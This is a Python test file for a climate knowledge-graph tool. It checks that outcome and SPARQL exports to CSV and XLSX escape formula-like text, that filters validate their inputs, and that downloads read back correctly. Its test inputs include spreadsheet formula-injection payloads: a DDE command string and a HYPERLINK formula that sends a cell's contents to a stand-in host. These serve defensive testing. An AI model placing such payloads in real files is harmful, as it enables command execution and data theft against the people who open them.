"""Outcomes as JSON/CSV/XLSX (graph/outcomes.py, GET /api/outcomes, `climatekg export outcomes`) and SPARQL
results as spreadsheets (/api/sparql/download): files are read back with the csv module and openpyxl, and
their values, units and escaping checked against the graph and the source text."""

from __future__ import annotations

import csv
import io
import re

import pytest

from climatekg.graph import outcomes as go
from climatekg.graph.tables import Column, Sheet, to_csv, to_xlsx

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
FORMULAS = ['=HYPERLINK("http://example.invalid/?x="&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A2)",
            " =1+1", "\t=1+1", "=cmd|' /C calc'!A0"]


def squash(s: str) -> str:
    return re.sub(r"\s+", "", s)


def read_csv(body: bytes) -> list[dict]:
    assert body.startswith(b"\xef\xbb\xbf"), "CSV starts with a UTF-8 BOM (Excel then reads Chinese)"
    return list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def read_xlsx(body: bytes):
    import openpyxl

    return openpyxl.load_workbook(io.BytesIO(body))


def sheet_dicts(ws) -> list[dict]:
    rows = list(ws.iter_rows(values_only=True))
    return [dict(zip(rows[0], r)) for r in rows[1:]]


# -- the query -----------------------------------------------------------------------------------------

def test_every_outcome_is_printed_at_its_source_lines(store, settings):
    table = go.query_outcomes(store)
    lines = settings.source.read_text(encoding="utf-8").split("\n")
    assert table.total == len(table.outcomes) > 700 and not table.truncated
    assert len({o["iri"] for o in table.outcomes}) == len(table.outcomes)
    for o in table.outcomes:
        text = squash("".join(lines[o["start_line"] - 1:o["end_line"]]))
        assert squash(o["surface"]) in text, o
        assert squash(o["surface"]) in squash(o["quote"]), o
        assert isinstance(o["value"], (int, float)) and o["unit"] and o["indicator"]["id"]
    assert {c["case_id"] for c in table.cases} == {o["case_id"] for o in table.outcomes}
    assert sum(c["outcomes"] for c in table.cases) == len(table.outcomes)


def test_a_known_figure(store):
    """Danone's rooftop PV: 13.26 MWp → 13260 kW, line 181; the sentence gives no year, so none is guessed."""
    t = go.query_outcomes(store, go.resolve_filters(store, case="case-01", indicator="capacity"))
    (o,) = [o for o in t.outcomes if o["surface"] == "13.26 MWp"]
    assert (o["value"], o["unit"], o["unit_en"], o["year"], o["start_line"], o["projected"]) == \
        (13260, "kW", "kW", None, 181, False)
    assert t.cases[0]["company_en"] == "Danone China" and t.cases[0]["title_zh"].startswith("引领消费品行业绿色转型")


@pytest.mark.parametrize("kind, names", [
    ("indicator", ["capacity", "装机容量", "Installed capacity", "installed CAPACITY"]),
    ("section", ["s4", "能源转型", "Energy transition"]),
    ("place", ["zhejiang", "浙江", "Zhejiang"]),
    ("technology", ["solar-pv", "光伏", "Solar PV"]),
])
def test_ids_and_labels_name_the_same_filter(store, kind, names):
    results = [[o["iri"] for o in go.query_outcomes(store, go.resolve_filters(store, **{kind: n})).outcomes]
               for n in names]
    assert results[0] and all(r == results[0] for r in results), kind


def test_place_and_technology_filters_reach_down_the_hierarchies(store):
    def cases(**kw):
        return {c["case_id"] for c in go.query_outcomes(store, go.resolve_filters(store, **kw)).cases}

    assert cases(place="hangzhou") and cases(place="hangzhou") < cases(place="zhejiang")
    wind = cases(technology="wind-power")
    direct = {r[0].value.rsplit("/", 1)[-1] for r in store.query(
        "SELECT ?c WHERE { ?c ckg:usesTechnology technology:renewable-energy }").rows}
    assert wind and wind <= cases(technology="renewable-energy")
    assert cases(technology="renewable-energy") > direct, "narrower technologies count"


def test_year_projected_and_case_filters(store):
    everything = go.query_outcomes(store).total
    y = go.query_outcomes(store, go.resolve_filters(store, year="2022")).outcomes
    assert y and all(o["year"] == 2022 for o in y)
    projected = go.query_outcomes(store, go.resolve_filters(store, projected="true")).outcomes
    achieved = go.query_outcomes(store, go.resolve_filters(store, projected=False)).outcomes
    assert projected and all(o["projected"] for o in projected) and not any(o["projected"] for o in achieved)
    assert len(projected) + len(achieved) == everything
    two = go.query_outcomes(store, go.resolve_filters(store, case=["case-06", "case-01"]))
    assert {o["case_id"] for o in two.outcomes} == {"case-01", "case-06"}
    assert [c["case_id"] for c in two.cases] == ["case-01", "case-06"]
    none = go.query_outcomes(store, go.resolve_filters(store, case="case-01", indicator="storage-capacity"))
    assert none.outcomes == [] and [c["case_id"] for c in none.cases] == ["case-01"]


@pytest.mark.parametrize("kw, parameter, message", [
    ({"indicator": "capacty"}, "indicator", "did you mean 'capacity'"),
    ({"case": "case-99"}, "case", "valid ids are case-01 … case-26"),
    ({"place": "Mars"}, "place", "unknown place 'Mars'; give an id or a zh/en label"),
    ({"section": "s9"}, "section", "unknown section"),
    ({"year": "twenty"}, "year", "from 1900 to 2100"),
    ({"year": 1850}, "year", "from 1900 to 2100"),
    ({"projected": "maybe"}, "projected", "true or false"),
])
def test_filter_values_that_name_nothing_are_refused(store, kw, parameter, message):
    with pytest.raises(go.FilterError) as e:
        go.resolve_filters(store, **kw)
    assert e.value.parameter == parameter and message in e.value.message


# -- the writers ---------------------------------------------------------------------------------------

def test_text_that_looks_like_a_formula_stays_text():
    sheet = Sheet("T", [Column("text", "text"), Column("n", "n"), Column("b", "b")],
                  [[f, -5, True] for f in FORMULAS] + [["plain 文本", 1.5, None]])
    rows = list(csv.reader(io.StringIO(to_csv(sheet).decode("utf-8-sig"), newline="")))
    assert rows[0] == ["text", "n", "b"]
    for f, row in zip(FORMULAS, rows[1:]):
        assert row == ["'" + f, "-5", "true"], "text gets an apostrophe; a number never does"
    assert rows[-1] == ["plain 文本", "1.5", ""]

    wb = read_xlsx(to_xlsx([sheet]))
    ws = wb["T"]
    for i, f in enumerate(FORMULAS, start=2):
        cell = ws.cell(i, 1)
        assert cell.data_type == "s" and cell.value == f, "a string cell with exactly the text, not a formula"
        assert ws.cell(i, 2).data_type == "n" and ws.cell(i, 2).value == -5
        assert ws.cell(i, 3).value is True
    assert ws.cell(len(FORMULAS) + 2, 3).value is None


def test_the_outcome_export_escapes_text_from_the_graph(store):
    """A quote or a printed figure that starts like a formula (as a future source text might) stays text."""
    t = go.query_outcomes(store, go.resolve_filters(store, case="case-01"))
    t.outcomes = [{**t.outcomes[0], "quote": FORMULAS[0], "surface": "-3%"}, *t.outcomes[1:]]
    row = read_csv(go.export(t, "csv"))[0]
    assert row["quote (source text)"] == "'" + FORMULAS[0] and row["as printed"] == "'-3%"
    ws = read_xlsx(go.export(t, "xlsx"))["Outcomes"]
    headers = [c.value for c in ws[1]]
    quote = ws.cell(2, headers.index("quote (source text)") + 1)
    assert quote.data_type == "s" and quote.value == FORMULAS[0]


# -- GET /api/outcomes -----------------------------------------------------------------------------------

def test_json_with_filters_sources_and_download_links(client, store):
    r = client.get("/api/outcomes", query_string={"indicator": "装机容量", "place": "浙江"})
    assert r.status_code == 200
    body = r.get_json()
    direct = go.query_outcomes(store, go.resolve_filters(store, indicator="capacity", place="zhejiang"))
    assert body["count"] == body["total"] == len(direct.outcomes) > 0
    assert [o["iri"] for o in body["outcomes"]] == [o["iri"] for o in direct.outcomes]
    assert body["filters"]["indicator"]["id"] == "capacity" and body["filters"]["place"]["en"] == "Zhejiang"
    assert {c["case_id"] for c in body["cases"]} == {o["case_id"] for o in body["outcomes"]}
    assert len(body["source"]["sha256"]) == 64
    assert body["urls"]["xlsx"].endswith("format=xlsx") and "place=" in body["urls"]["csv"]
    assert client.get(body["urls"]["csv"]).status_code == 200


def test_the_case_api_lists_the_same_outcomes(client):
    case = client.get("/api/cases/case-06").get_json()
    rows = client.get("/api/outcomes?case=case-06").get_json()["outcomes"]
    assert case["outcomes"] == rows


def test_csv_download_reads_back(client):
    json_rows = client.get("/api/outcomes?case=case-01").get_json()["outcomes"]
    r = client.get("/api/outcomes?case=case-01&format=csv")
    assert r.status_code == 200 and r.mimetype == "text/csv" and r.mimetype_params["charset"] == "utf-8"
    assert r.headers["Content-Disposition"] == 'attachment; filename="climatekg-outcomes_case-01.csv"'
    rows = read_csv(r.data)
    assert len(rows) == len(json_rows) == 41
    for row, o in zip(rows, json_rows):
        assert float(row["value"]) == o["value"] and row["unit"] == o["unit"] and row["unit (zh)"] == o["unit_zh"]
        assert row["indicator"] == o["indicator"]["en"] and row["quote (source text)"] == o["quote"]
        assert int(row["first line"]) == o["start_line"] and row["projected"] in ("true", "false")
        assert row["outcome IRI"] == o["iri"] and row["case"] == "case-01" and row["company"] == "Danone China"
    pv = next(r for r in rows if r["as printed"] == "13.26 MWp")
    assert (pv["value"], pv["unit"], pv["year"], pv["first line"]) == ("13260", "kW", "", "181")


def test_xlsx_download_reads_back(client):
    body = client.get("/api/outcomes?indicator=co2-reduction&projected=false").get_json()
    r = client.get("/api/outcomes?indicator=co2-reduction&projected=false&format=xlsx")
    assert r.status_code == 200 and r.mimetype == XLSX
    assert 'filename="climatekg-outcomes_indicator-co2-reduction_achieved.xlsx"' in r.headers["Content-Disposition"]
    wb = read_xlsx(r.data)
    assert wb.sheetnames == ["Outcomes", "Sources"]
    ws = wb["Outcomes"]
    assert ws.freeze_panes == "A2" and ws.auto_filter.ref.startswith("A1:")
    headers = [c.value for c in ws[1]]
    value_col, unit_col = headers.index("value") + 1, headers.index("unit") + 1
    assert unit_col == value_col + 1, "the unit is in its own column, next to the value"
    rows = sheet_dicts(ws)
    assert len(rows) == body["count"] > 20
    for i, (row, o) in enumerate(zip(rows, body["outcomes"]), start=2):
        assert ws.cell(i, value_col).data_type == "n" and row["value"] == o["value"]
        assert row["unit"] == o["unit"] and row["indicator"] == "CO₂ emissions reduced"
        assert row["projected"] is False and row["approximate"] is o["approximate"]
        assert row["quote (source text)"] == o["quote"] and row["first line"] == o["start_line"]
        assert row["year"] == o["year"]
    sources = sheet_dicts(wb["Sources"])
    assert [s["case"] for s in sources] == [c["case_id"] for c in body["cases"]]
    assert sum(s["outcomes in this export"] for s in sources) == body["count"]
    assert all(s["source sha256"] == body["source"]["sha256"] and s["first line"] < s["last line"] for s in sources)
    assert "indicator=co2-reduction" in wb.properties.title


def test_an_empty_selection_is_an_empty_table(client):
    r = client.get("/api/outcomes?case=case-01&indicator=storage-capacity&format=csv")
    assert r.status_code == 200 and read_csv(r.data) == []
    ws = read_xlsx(client.get("/api/outcomes?case=case-01&indicator=storage-capacity&format=xlsx").data)["Outcomes"]
    assert ws.max_row == 1 and ws.cell(1, 1).value == "case"


@pytest.mark.parametrize("query, status, needle", [
    ("indicator=capacty", 400, "did you mean 'capacity'"),
    ("case=case-01,case-77", 400, "unknown case 'case-77'"),
    ("projected=perhaps", 400, "true or false"),
    ("year=1800", 400, "from 1900 to 2100"),
    ("format=pdf", 400, "use one of: json, csv, xlsx"),
    ("indicatr=capacity", 400, "did you mean 'indicator'"),
    ("case=case-01&case=case-02", 400, "more than once"),
])
def test_bad_requests_say_what_to_fix(client, query, status, needle):
    r = client.get("/api/outcomes?" + query)
    assert r.status_code == status
    err = r.get_json()["error"]
    assert needle in err["message"] and err["code"] == "bad_request"


def test_an_unknown_value_lists_the_valid_ones(client):
    err = client.get("/api/outcomes?indicator=nope").get_json()["error"]
    assert err["detail"]["parameter"] == "indicator" and "capacity" in err["detail"]["valid"]


# -- /api/sparql/download --------------------------------------------------------------------------------

FORMULA_QUERY = """SELECT ?text ?n ?d ?b ?title WHERE {
  BIND("=HYPERLINK(\\"http://example.invalid\\",\\"x\\")" AS ?text) BIND(42 AS ?n) BIND(2.5 AS ?d) BIND(true AS ?b)
  case:case-01 dcterms:title ?title FILTER(lang(?title) = "zh") }"""


def test_sparql_results_download_as_csv_and_xlsx(client):
    r = client.post("/api/sparql/download", data={"query": FORMULA_QUERY, "format": "csv"})
    assert r.status_code == 200 and r.headers["X-Result-Truncated"] == "false"
    assert 'filename="climatekg-query.csv"' in r.headers["Content-Disposition"]
    (row,) = read_csv(r.data)
    assert row["text"] == "'" + '=HYPERLINK("http://example.invalid","x")'
    assert (row["n"], row["d"], row["b"]) == ("42", "2.5", "true") and row["title"].startswith("引领消费品行业")

    r = client.get("/api/sparql/download", query_string={"query": FORMULA_QUERY, "format": "xlsx"})
    assert r.status_code == 200 and r.mimetype == XLSX
    ws = read_xlsx(r.data)["Results"]
    assert [c.value for c in ws[1]] == ["text", "n", "d", "b", "title"]
    text, n, d, b, _ = ws[2]
    assert text.data_type == "s" and text.value == '=HYPERLINK("http://example.invalid","x")'
    assert (n.data_type, n.value, d.value, b.value) == ("n", 42, 2.5, True)


def test_sparql_download_keeps_the_endpoints_refusals_and_limits(client, settings):
    r = client.post("/api/sparql/download", data={"query": "INSERT DATA { <a:b> <a:c> 1 }", "format": "xlsx"})
    assert r.status_code == 403 and "read-only" in r.get_json()["error"]["message"]
    r = client.get("/api/sparql/download", query_string={"query": "SELECT * WHERE { SERVICE <http://x.invalid/> { ?s ?p ?o } }"})
    assert r.status_code == 403
    r = client.get("/api/sparql/download", query_string={"query": "SELEC ?x"})
    assert r.status_code == 400 and r.get_json()["error"]["code"] == "syntax_error"
    big = "SELECT * WHERE { ?s ?p ?o } #" + "x" * settings.sparql_max_query_bytes
    assert client.post("/api/sparql/download", data={"query": big}).status_code == 413
    assert client.get("/api/sparql/download").status_code == 400
    assert client.get("/api/sparql/download?query=ASK{}&format=ods").status_code == 400
    assert client.post("/api/sparql/download", json={"query": "ASK {}"}).status_code == 415


# -- the command line ---------------------------------------------------------------------------------------

def test_cli_exports_xlsx_and_csv(graph_build_dir, tmp_path, monkeypatch, capsysbinary):
    from climatekg.cli import main

    monkeypatch.setenv("CLIMATEKG_BUILD_DIR", str(graph_build_dir[0]))
    out = tmp_path / "capacity.xlsx"
    assert main(["export", "outcomes", "--indicator", "装机容量", "--place", "zhejiang", "-o", str(out)]) == 0
    assert b"outcomes from" in capsysbinary.readouterr().err
    rows = sheet_dicts(read_xlsx(out.read_bytes())["Outcomes"])
    assert rows and all(r["indicator"] == "Installed capacity" and r["unit"] == "kW" for r in rows)

    assert main(["export", "outcomes", "--case", "case-01", "--case", "case-06,case-07", "--projected", "true"]) == 0
    rows = read_csv(capsysbinary.readouterr().out)
    assert rows and {r["case"] for r in rows} <= {"case-01", "case-06", "case-07"} and \
        all(r["projected"] == "true" for r in rows)


def test_cli_export_refuses_what_it_cannot_do(graph_build_dir, tmp_path, monkeypatch, capsys):
    from climatekg.cli import main

    monkeypatch.setenv("CLIMATEKG_BUILD_DIR", str(graph_build_dir[0]))
    assert main(["export", "outcomes", "--indicator", "capacty"]) == 2
    assert "--indicator: unknown indicator 'capacty' (did you mean 'capacity'?)" in capsys.readouterr().err
    assert main(["export", "outcomes", "--format", "xlsx"]) == 2
    assert "give -o FILE.xlsx" in capsys.readouterr().err
    assert main(["export", "outcomes", "-o", str(tmp_path / "x.ods")]) == 2


# -- the web pages -----------------------------------------------------------------------------------------

def test_pages_offer_the_downloads(client):
    page = client.get("/cases/case-07?lang=en").get_data(as_text=True)
    links = re.findall(r'href="(/api/outcomes\?[^"]+)"', page)
    assert {"/api/outcomes?format=csv&amp;case=case-07", "/api/outcomes?format=xlsx&amp;case=case-07"} <= set(links)
    r = client.get(links[1].replace("&amp;", "&"))
    assert r.status_code == 200 and r.mimetype == XLSX

    page = client.get("/entities/technology/solar-pv?lang=en").get_data(as_text=True)
    assert "/api/outcomes?format=xlsx&amp;technology=solar-pv" in page
    award = client.get("/api/cases/case-01").get_json()["links"]["recognitions"][0]["id"]
    page = client.get(f"/entities/award/{award}?lang=en").get_data(as_text=True)
    (link,) = set(re.findall(r'href="(/api/outcomes\?format=csv&amp;case=[^"]+)"', page))
    listed = set(re.findall(r'href="/cases/(case-\d\d)"', page))
    assert "case-01" in listed and set(link.split("case=")[1].split(",")) == listed, "the cases the page lists"
    editor = client.get("/sparql/editor?lang=en").get_data(as_text=True)
    assert 'id="download-xlsx"' in editor and 'id="download-csv"' in editor
